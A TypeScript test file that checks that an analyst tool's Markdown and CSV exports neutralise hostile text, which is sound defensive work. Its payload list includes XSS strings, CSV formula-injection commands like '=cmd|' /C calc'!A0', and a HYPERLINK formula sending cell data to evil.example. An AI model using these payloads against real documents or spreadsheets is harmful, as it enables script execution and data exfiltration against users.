// Exports leave the app and are opened elsewhere: Markdown in a previewer or a wiki (which renders raw HTML
// and follows links), CSV in a spreadsheet (which evaluates formulas). Library text from hostile pages must
// arrive there as the text it is.
// - The XSS corpus goes through the real services (import, a claim tagged in each article with payloads in
//   every field) and out through export.build.
// - A property test throws random and hostile strings into every field of a snapshot.
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { articleText, describeRange } from '../../../shared/domain/article-text';
import { CSV_COLUMNS, toCsv } from '../../../shared/domain/export/csv';
import { toMarkdown } from '../../../shared/domain/export/markdown';
import type { Annotation, Article, Claim, LibrarySnapshot } from '../../../shared/domain/types';
import { openWorkbench, type Workbench } from '../../../electron/services/workbench';
import { tempDir } from '../../helpers/temp-library';
import { parseCsv } from '../../helpers/csv';

const XSS_DIR = new URL('../../fixtures/xss/', import.meta.url);
const CORPUS = readdirSync(XSS_DIR).filter((f) => /\.(html|txt|md)$/.test(f));

/** Classic payloads, plus every corpus line that carries markup, a script URL or a formula. */
const PAYLOADS = [
  `<img src=x onerror=alert(1)>`,
  `<script>alert(1)</script>`,
  `"><svg onload=alert(1)>`,
  `[click](javascript:alert(1))`,
  `[click]( javascript:alert(1) "t")`,
  `![pixel](https://evil.example/t.png)`,
  `<https://evil.example/auto>`,
  `[ref]: javascript:alert(1)`,
  '`code` and ```fence```',
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &#x3C;b&#x3E;`,
  `# heading`,
  `> quote`,
  `- item`,
  `1. item`,
  `***bold*** _em_ ~~strike~~ | a | b |`,
  `<!-- comment --> <!--`,
  `\\<img src=x onerror=alert(1)>`,
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+SUM(1+1)`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1)`,
  `\t=1+1`,
  `\r=1+1`,
  `"quoted", comma; and\nnew line`,
  `javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  ...CORPUS.flatMap((f) => readFileSync(new URL(f, XSS_DIR), 'utf8').split('\n'))
    .map((l) => l.trim())
    .filter((l) => /[<>`]|javascript:|^[=+\-@]/i.test(l))
    .map((l) => l.slice(0, 300)),
];

/** Positions of `ch` not escaped by an odd run of backslashes. */
function unescaped(md: string, ch: string): number[] {
  const out: number[] = [];
  for (let i = md.indexOf(ch); i >= 0; i = md.indexOf(ch, i + 1)) {
    let n = 0;
    while (i - 1 - n >= 0 && md[i - 1 - n] === '\\') n++;
    if (n % 2 === 0) out.push(i);
  }
  return out;
}

function expectInertMarkdown(md: string, claimsWithEvidence: number, claimsWithout: number) {
  // No HTML at all and no code spans. (Character references are left alone here: in CommonMark they are
  // always literal text, never markup.)
  expect(unescaped(md, '<').map((i) => md.slice(i, i + 40))).toEqual([]);
  expect(unescaped(md, '`').map((i) => md.slice(i, i + 40))).toEqual([]);
  // The only links are the generated [link](http(s)://…); no images, no reference definitions.
  for (const i of unescaped(md, '](')) {
    const dest = md.slice(i + 2, md.indexOf(')', i + 2));
    expect(md.slice(Math.max(0, i - 5), i), 'only "[link](" is a link').toBe('[link');
    // Nothing that ends the destination, starts a title or breaks out of an HTML attribute once rendered.
    expect(dest).toMatch(/^https?:\/\/[^\s()<>"`\\]+$/);
  }
  expect(unescaped(md, '![')).toEqual([]);
  expect(md).not.toMatch(/^\s*\[[^\]\\]*\]:/m);
  // Headings: the title, one per claim with evidence, and the "without evidence" section.
  const headings = md.split('\n').filter((l) => /^#/.test(l));
  expect(headings[0]).toBe('# Analyst Workbench — claim notes');
  expect(headings.length).toBe(1 + claimsWithEvidence + (claimsWithout ? 1 : 0));
  for (const h of headings.slice(1)) expect(h).toMatch(/^## [^#]/);
}

/** What a spreadsheet would treat as a formula. */
const FORMULA = /^[=+\-@\t\r]/;
/** The value a guarded cell stands for. */
const unguard = (cell: string) =>
  cell.startsWith("'") && /^'*[=+\-@\t\r]/.test(cell.slice(1)) ? cell.slice(1) : cell;

function expectInertCsv(
  csv: string,
  annotations: Annotation[],
  claims: Claim[],
  articles: Pick<Article, 'id' | 'title' | 'url'>[],
) {
  expect(csv.endsWith('\r\n'), 'ends with CRLF').toBe(true);
  const rows = parseCsv(csv);
  expect(rows[0]).toEqual([...CSV_COLUMNS]);
  expect(rows.length).toBe(annotations.length + 1);
  const col = (name: string) => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);
  for (const r of rows.slice(1)) {
    expect(r.length).toBe(CSV_COLUMNS.length);
    for (const cell of r)
      expect(FORMULA.test(cell), `unguarded formula: ${JSON.stringify(cell)}`).toBe(false);
    const a = annotations.find((x) => x.id === r[col('annotation_id')])!;
    const claim = claims.find((c) => c.id === a.claimId)!;
    const article = articles.find((x) => x.id === a.articleId)!;
    // Guarded cells still say exactly what the library says.
    expect(unguard(r[col('claim_text')]!)).toBe(claim.text);
    expect(unguard(r[col('article_title')]!)).toBe(article.title);
    expect(unguard(r[col('url')]!)).toBe(article.url ?? '');
    expect(unguard(r[col('speaker')]!)).toBe(a.speaker);
    expect(unguard(r[col('note')]!)).toBe(a.note);
    expect(unguard(r[col('quote_exact')]!)).toBe(a.quote.exact);
    expect(unguard(r[col('tags')]!)).toBe(a.tags.join('; '));
  }
}

describe('the XSS corpus through the real services and export.build', () => {
  const tmp = tempDir('wb-export-xss-');
  let wb: Workbench;
  let snapshot: LibrarySnapshot;

  beforeAll(async () => {
    wb = await openWorkbench({ libraryDir: tmp.dir, version: 'test', ports: { shell: 'host' } });
    const files = CORPUS.map((name) => {
      const bytes = readFileSync(new URL(name, XSS_DIR));
      return { name, size: bytes.length, dataBase64: bytes.toString('base64') };
    });
    const imp = await wb.dispatch('articles.import', { files });
    expect(imp.ok).toBe(true);
    const list = (await wb.dispatch('articles.list', {})) as {
      ok: true;
      result: Array<{ id: string; title: string }>;
    };
    expect(list.result.length).toBe(CORPUS.length);
    for (const [i, a] of list.result.entries()) {
      const p = (k: number) => PAYLOADS[(i * 7 + k) % PAYLOADS.length]!;
      const r = await wb.dispatch('annotations.create', {
        articleId: a.id,
        target: { start: 0, end: Array.from(a.title).length },
        stance: 'reports',
        newClaim: { text: `${p(0)} ${i}`.slice(0, 1000), speaker: p(1).slice(0, 200) },
        speaker: p(2).slice(0, 200),
        tags: [p(3), p(4), `=tag${i}`].map((t) => t.slice(0, 80)),
        note: `${p(5)}\n${p(6)}\n# not a heading\n> not a quote`,
      });
      expect(r.ok, JSON.stringify(r).slice(0, 300)).toBe(true);
    }
    const json = (await wb.dispatch('export.build', { format: 'json' })) as {
      ok: true;
      result: { content: string };
    };
    snapshot = JSON.parse(json.result.content) as LibrarySnapshot;
  }, 60_000);

  afterAll(async () => {
    await wb?.close();
    tmp.cleanup();
  });

  it('the JSON export carries every value exactly', () => {
    expect(snapshot.articles.length).toBe(CORPUS.length);
    expect(snapshot.annotations.length).toBe(CORPUS.length);
    expect(snapshot.claims.map((c) => c.text).join('\n')).toContain('<');
  });

  it('Markdown: no HTML, no code, no links but http(s), no headings from the text', async () => {
    const r = (await wb.dispatch('export.build', { format: 'md' })) as {
      ok: true;
      result: { content: string; fileName: string };
    };
    expect(r.result.fileName).toMatch(/^[\w.-]+\.md$/);
    expectInertMarkdown(r.result.content, snapshot.claims.length, 0);
  });

  it('CSV: every formula guarded, every value intact', async () => {
    const r = (await wb.dispatch('export.build', { format: 'csv' })) as {
      ok: true;
      result: { content: string; fileName: string };
    };
    expect(r.result.fileName).toMatch(/^[\w.-]+\.csv$/);
    expectInertCsv(r.result.content, snapshot.annotations, snapshot.claims, snapshot.articles);
  });
});

describe('any strings in any field (property)', () => {
  const hostile = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
    { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
    {
      weight: 2,
      arbitrary: fc
        .array(fc.constantFrom(...PAYLOADS, '\n', ' ', '\\', '#', '`', '<', '](', '&#60;', '=', '\r\n'), {
          maxLength: 6,
        })
        .map((p) => p.join('')),
    },
  );
  const url = fc.oneof(fc.constant(null), fc.webUrl(), hostile);

  it('Markdown and CSV stay inert', () => {
    fc.assert(
      fc.property(
        fc.record({
          title: hostile,
          outlet: hostile,
          domain: hostile,
          url,
          lead: hostile,
          para: hostile,
          quote: hostile,
          claim: hostile,
          cSpeaker: hostile,
          cNote: hostile,
          speaker: hostile,
          tags: fc.array(hostile, { maxLength: 3 }),
          note: hostile,
          orphanClaim: hostile,
        }),
        (f) => {
          const body = `${f.para} ${f.quote || 'q'} end`;
          const parts = { title: f.title || 't', lead: f.lead, paragraphs: [body] };
          const text = articleText(parts);
          const at = Array.from(text.slice(0, text.lastIndexOf(f.quote || 'q'))).length;
          const sel = describeRange(text, at, at + Array.from(f.quote || 'q').length);
          const article: Article = {
            id: 'art1',
            fileName: 'a.html',
            sha256: '0'.repeat(64),
            importedAt: '2024-01-01T00:00:00.000Z',
            title: parts.title,
            outlet: { name: f.outlet, domain: f.domain || null },
            url: f.url,
            published: '2024-01-01',
            modified: null,
            language: 'en',
            author: null,
            lead: f.lead,
            wordCount: 3,
            size: 10,
            paragraphs: [body],
          };
          const stamp = '2024-01-02T00:00:00.000Z';
          const claims: Claim[] = [
            {
              id: 'c1',
              text: f.claim || 'c',
              speaker: f.cSpeaker,
              note: f.cNote,
              createdAt: stamp,
              updatedAt: stamp,
            },
            {
              id: 'c2',
              text: f.orphanClaim || 'o',
              speaker: f.cSpeaker,
              note: f.cNote,
              createdAt: stamp,
              updatedAt: stamp,
            },
          ];
          const annotations: Annotation[] = [
            {
              id: 'a1',
              articleId: 'art1',
              claimId: 'c1',
              ...sel,
              stance: 'denies',
              speaker: f.speaker,
              tags: f.tags,
              note: f.note,
              createdAt: stamp,
              updatedAt: stamp,
            },
          ];
          const snap: LibrarySnapshot = {
            schemaVersion: 1,
            exportedAt: stamp,
            articles: [article],
            claims,
            annotations,
          };
          expectInertMarkdown(toMarkdown(snap), 1, 1);
          expectInertCsv(toCsv(snap), annotations, claims, [article]);
        },
      ),
      { numRuns: 300 },
    );
  });
});
